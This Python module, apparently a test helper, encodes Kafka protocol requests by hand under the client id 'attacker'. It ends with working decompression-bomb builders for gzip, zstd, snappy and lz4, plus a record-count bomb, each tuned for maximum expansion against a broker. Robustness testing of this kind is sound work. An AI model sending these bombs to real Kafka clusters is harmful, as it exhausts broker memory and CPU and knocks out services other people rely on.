"""Requests as bytes, right and wrong ones. Versions are the last ones before tagged fields, to keep this short."""

import struct
import zlib

PRODUCE, FETCH, LIST_OFFSETS, METADATA = 0, 1, 2, 3
API_VERSIONS, CREATE_TOPICS, INIT_PRODUCER_ID, DESCRIBE_CONFIGS, ALTER_CONFIGS = 18, 19, 22, 32, 44


def _crc_table():
    table = []
    for byte in range(256):
        for _ in range(8):
            byte = byte >> 1 ^ (0x82F63B78 if byte & 1 else 0)
        table.append(byte)
    return table


CRC_TABLE = _crc_table()


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc = CRC_TABLE[(crc ^ byte) & 0xFF] ^ crc >> 8
    return crc ^ 0xFFFFFFFF


def text(value):
    value = value.encode() if isinstance(value, str) else value
    return struct.pack(">h", len(value)) + value


def framed(body):
    return struct.pack(">i", len(body)) + body


def request(api, version, body, correlation=7):
    return framed(struct.pack(">hhi", api, version, correlation) + text("attacker") + body)


def varint(number):
    number = number << 1 ^ number >> 63
    out = bytearray()
    while True:
        byte, number = number & 0x7F, number >> 7
        out.append(byte | (0x80 if number else 0))
        if not number:
            return bytes(out)


def record(value, offset=0):
    body = b"\0" + varint(0) + varint(offset) + varint(-1) + varint(len(value)) + value + varint(0)
    return varint(len(body)) + body


def batch(body, count=1, codec=0, producer=(-1, -1, -1), crc=None, last_delta=None):
    """A batch of format v2; `producer` is id, epoch and base sequence."""
    last_delta = count - 1 if last_delta is None else last_delta
    rest = struct.pack(">hiqqqhii", codec, last_delta, 0, 0, *producer, count) + body
    crc = crc32c(rest) if crc is None else crc
    return struct.pack(">qiibI", 0, len(rest) + 9, 0, 2, crc) + rest


def produce(topic, batches, acks=-1):
    """Produce v7 with one batch for each of several partitions: `batches` are (partition, batch)."""
    parts = [struct.pack(">hhi", -1, acks, 30_000), struct.pack(">i", 1), text(topic), struct.pack(">i", len(batches))]
    for partition, records in batches:
        parts += [struct.pack(">ii", partition, len(records)), records]
    return request(PRODUCE, 7, b"".join(parts))


def fetch(topic, partitions, max_bytes=2**31 - 1, wait_ms=0, min_bytes=0, session=(0, -1)):
    """Fetch v11 from the beginning of each partition."""
    parts = [struct.pack(">iiiibii", -1, wait_ms, min_bytes, max_bytes, 0, *session)]
    parts += [struct.pack(">i", 1), text(topic), struct.pack(">i", len(partitions))]
    parts += [struct.pack(">iiqqi", partition, -1, 0, -1, max_bytes) for partition in partitions]
    return request(FETCH, 11, b"".join(parts) + struct.pack(">i", 0) + text(""))


def list_offsets(topic, partitions, timestamp=-1):
    """ListOffsets v5."""
    body = struct.pack(">ibi", -1, 0, 1) + text(topic) + struct.pack(">i", len(partitions))
    return request(LIST_OFFSETS, 5, body + b"".join(struct.pack(">iiq", each, -1, timestamp) for each in partitions))


def metadata(topics=None):
    """Metadata v4, without automatic creation; None asks for all topics."""
    if topics is None:
        return request(METADATA, 4, struct.pack(">ib", -1, 0))
    return request(METADATA, 4, struct.pack(">i", len(topics)) + b"".join(map(text, topics)) + b"\0")


def create_topics(topics, configs=(), validate_only=False):
    """CreateTopics v4: `topics` are (name, number of partitions)."""
    body = struct.pack(">i", len(topics))
    for name, partitions in topics:
        body += text(name) + struct.pack(">ihi", partitions, 1, 0) + struct.pack(">i", len(configs))
        for key, value in configs:
            body += text(key) + text(value)
    return request(CREATE_TOPICS, 4, body + struct.pack(">ib", 30_000, validate_only))


def alter_config(kind, name, key, value):
    """IncrementalAlterConfigs v0 that sets one key."""
    body = struct.pack(">ib", 1, kind) + text(name) + struct.pack(">i", 1) + text(key) + b"\0" + text(value)
    return request(ALTER_CONFIGS, 0, body + b"\0")


def init_producer_id():
    """InitProducerId v1."""
    return request(INIT_PRODUCER_ID, 1, struct.pack(">hi", -1, 60_000))


def describe_configs(resources):
    """DescribeConfigs v3 with documentation: `resources` are (type, name)."""
    body = struct.pack(">i", len(resources))
    for kind, name in resources:
        body += struct.pack(">b", kind) + text(name) + struct.pack(">i", -1)
    return request(DESCRIBE_CONFIGS, 3, body + b"\1\1")


def api_versions():
    return request(API_VERSIONS, 0, b"")


# Decompression bombs: one record whose value is so many zero bytes, packed as tightly as each codec can.


def _record_ends(value_bytes):
    head = b"\0" + varint(0) + varint(0) + varint(-1) + varint(value_bytes)
    tail = varint(0)
    return varint(len(head) + value_bytes + len(tail)) + head, tail


def gzip_bomb(value_bytes):
    head, tail = _record_ends(value_bytes)
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    parts = [packer.compress(head)]
    parts += [packer.compress(zeros) for _ in range(value_bytes >> 20)]
    return b"".join(parts) + packer.compress(zeros[: value_bytes % (1 << 20)] + tail) + packer.flush()


def zstd_bomb(value_bytes):
    """A frame with a window of 128 MiB, the most that is taken, and blocks of one repeated byte."""
    head, tail = _record_ends(value_bytes)

    def block(kind, size, content, is_last=0):
        return struct.pack("<I", size << 3 | kind << 1 | is_last)[:3] + content

    out = bytearray(b"\x28\xb5\x2f\xfd\x00" + bytes([17 << 3]) + block(0, len(head), head))
    while value_bytes:
        size = min(value_bytes, 128 << 10)
        value_bytes -= size
        out += block(1, size, b"\0")
    return bytes(out + block(0, len(tail), tail, 1))


def snappy_bomb(value_bytes):
    """One raw block: a claim, then copies of 64 bytes in three."""
    head, tail = _record_ends(value_bytes)
    claim, total = bytearray(), len(head) + value_bytes + len(tail)
    while total >= 0x80:
        claim.append(total & 0x7F | 0x80)
        total >>= 7
    claim.append(total)
    literal = head + b"\0"
    out = bytes(claim) + bytes([(len(literal) - 1) << 2]) + literal
    copies, rest = divmod(value_bytes - 1, 64)
    out += bytes([63 << 2 | 2, 1, 0]) * copies
    if rest:
        out += bytes([(rest - 1) << 2 | 2, 1, 0])
    return out + bytes([(len(tail) - 1) << 2]) + tail


def lz4_bomb(value_bytes):
    """Independent blocks of 4 MiB, each one long match. Rounds down to whole blocks."""
    blocks = max(1, value_bytes >> 22)
    head, tail = _record_ends(blocks << 22)
    match = (4 << 20) - 1 - 12 - 4 - 15
    packed = b"\x1f\0\1\0" + b"\xff" * (match // 255) + bytes([match % 255]) + b"\xc0" + bytes(12)
    plain = lambda part: struct.pack("<I", len(part) | 0x80000000) + part
    out = b"\x04\x22\x4d\x18\x60\x70\x73" + plain(head)
    out += (struct.pack("<I", len(packed)) + packed) * blocks
    return out + plain(tail) + bytes(4)


# Codec, packer, and how far a batch of 1 MiB can be made to expand.
BOMBS = [(1, gzip_bomb, 900 << 20), (2, snappy_bomb, 20 << 20), (3, lz4_bomb, 240 << 20), (4, zstd_bomb, 8 << 30)]


def count_bomb(record_count):
    """gzip of the smallest records there are: costs the most to look through."""
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    parts = [packer.compress(record(b"", number)) for number in range(record_count)]
    return b"".join(parts) + packer.flush()
